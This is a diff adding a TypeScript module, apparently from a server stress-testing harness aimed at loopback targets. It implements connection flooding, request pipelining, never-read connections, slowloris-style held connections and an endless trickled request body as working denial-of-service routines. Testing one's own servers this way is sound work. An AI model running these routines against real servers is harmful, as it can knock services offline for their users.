@@ -1,0 +1,175 @@
+import { setTimeout as pause } from 'node:timers/promises';
+import type { Target } from './attack.ts';
+import { Connection, type Manner } from './connection.ts';
+
+/** Makes the bytes of the request of this number, counted from 0 over all connections. */
+export type Next = (count: number) => Uint8Array;
+
+interface Spread {
+  readonly connections?: number;
+  /** The loopback address that the connection of this number comes from; the target's unless given. */
+  readonly from?: (connection: number) => string;
+}
+
+/** Repeats a request as it is. */
+export const same =
+  (bytes: Uint8Array): Next =>
+  () =>
+    bytes;
+
+/** Goes through requests in turn. */
+export const inTurn =
+  (list: readonly Uint8Array[]): Next =>
+  (count) =>
+    list[count % list.length] as Uint8Array;
+
+/** Connections are opened in groups, so that the queue of those not yet accepted does not overflow. */
+const GROUP = 100;
+const GROUP_MS = 10;
+const REOPEN_MS = 10;
+
+/**
+ * Sends one request after the other on each connection, as fast as it is answered. What the server closes is opened anew.
+ */
+export async function flood(
+  target: Target,
+  next: Next,
+  {
+    connections = 8,
+    from,
+    fresh = false,
+    most = Infinity,
+    everyMs = 0,
+    patienceMs,
+    ...manner
+  }: Spread &
+    Manner & {
+      /** The client leaves when it has waited so long. */
+      readonly patienceMs?: number;
+      /** A connection of its own for each request. */
+      readonly fresh?: boolean;
+      /** So many requests in all. */
+      readonly most?: number;
+      /** A rest between an answer and the next request of a connection. */
+      readonly everyMs?: number;
+    } = {},
+): Promise<void> {
+  let count = 0;
+  await spread(connections, async (index) => {
+    while (!target.signal.aborted && count < most) {
+      const connection = new Connection(target, { ...manner, source: from?.(index) });
+      const leave = patienceMs === undefined ? undefined : setTimeout(() => connection.close(), patienceMs);
+      do {
+        const wanted = connection.answers + 1;
+        await connection.send(next(count++));
+        await connection.answered(wanted);
+        if (everyMs > 0) await rest(target, everyMs);
+      } while (!fresh && connection.open && count < most);
+      clearTimeout(leave);
+      connection.close();
+      // A server that refuses connections would otherwise be asked as fast as the machine can.
+      await pause(fresh ? 0 : REOPEN_MS);
+    }
+  });
+}
+
+/** Sends many requests at once on each connection without waiting for answers, and again as soon as they are taken. */
+export async function pipeline(
+  target: Target,
+  next: Next,
+  { connections = 4, depth = 500, from, ...manner }: Spread & Manner & { readonly depth?: number } = {},
+): Promise<void> {
+  let count = 0;
+  await spread(connections, async (index) => {
+    while (!target.signal.aborted) {
+      const connection = new Connection(target, { ...manner, source: from?.(index) });
+      while (connection.open) {
+        await connection.send(Buffer.concat(Array.from({ length: depth }, () => next(count++))));
+      }
+      await pause(REOPEN_MS);
+    }
+  });
+}
+
+/** Asks on each connection and never reads an answer. */
+export async function neverRead(
+  target: Target,
+  next: Next,
+  { connections = 60, requests = 1, from }: Spread & { readonly requests?: number } = {},
+): Promise<void> {
+  await hold(
+    target,
+    (index) => Buffer.concat(Array.from({ length: requests }, (_, n) => next(index * requests + n))),
+    {
+      connections,
+      read: false,
+      ...(from && { from }),
+    },
+  );
+}
+
+/** Opens connections, sends the opening on each and then a little now and then, without ever coming to an end. */
+export async function hold(
+  target: Target,
+  opening: Next,
+  {
+    connections = 2_100,
+    drip,
+    everyMs = 1_000,
+    from,
+    ...manner
+  }: Spread & Manner & { readonly drip?: Uint8Array; readonly everyMs?: number } = {},
+): Promise<void> {
+  const held: Connection[] = [];
+  await spread(connections, async (index) => {
+    if (target.signal.aborted) return;
+    const connection = new Connection(target, { ...manner, source: from?.(index) });
+    connection.write(opening(index));
+    held.push(connection);
+  });
+  target.tally.count('held', held.length);
+  while (!target.signal.aborted) {
+    await rest(target, everyMs);
+    if (drip) for (const connection of held) connection.write(drip);
+  }
+}
+
+/** Sends a body in as many pieces as told on every connection at once, as fast as they are taken; the body never ends. */
+export async function trickle(
+  target: Target,
+  {
+    head,
+    piece,
+    pieces,
+    connections = 1_900,
+    from,
+  }: Spread & { readonly head: Uint8Array; readonly piece: Uint8Array; readonly pieces: number },
+): Promise<void> {
+  const perWrite = Math.min(pieces, Math.ceil(16_384 / piece.length));
+  const block = Buffer.concat(Array.from({ length: perWrite }, () => piece));
+  await spread(connections, async (index) => {
+    if (target.signal.aborted) return;
+    const connection = new Connection(target, { source: from?.(index) });
+    connection.write(head);
+    for (let done = 0; done < pieces && connection.open; done += perWrite) {
+      await connection.send(block);
+      target.tally.count('pieces', perWrite);
+    }
+    while (connection.open) await rest(target, 100);
+  });
+}
+
+/** Rests until the time is up, at most. */
+export async function rest({ signal }: Target, ms: number): Promise<void> {
+  await pause(ms, undefined, { signal }).catch(() => {});
+}
+
+/** Does the work of every connection at the same time, beginning a group of them after the other. */
+async function spread(connections: number, work: (index: number) => Promise<void>): Promise<void> {
+  const all: Promise<void>[] = [];
+  for (let index = 0; index < connections; index++) {
+    all.push(work(index));
+    if (index % GROUP === GROUP - 1) await pause(GROUP_MS);
+  }
+  await Promise.all(all);
+}
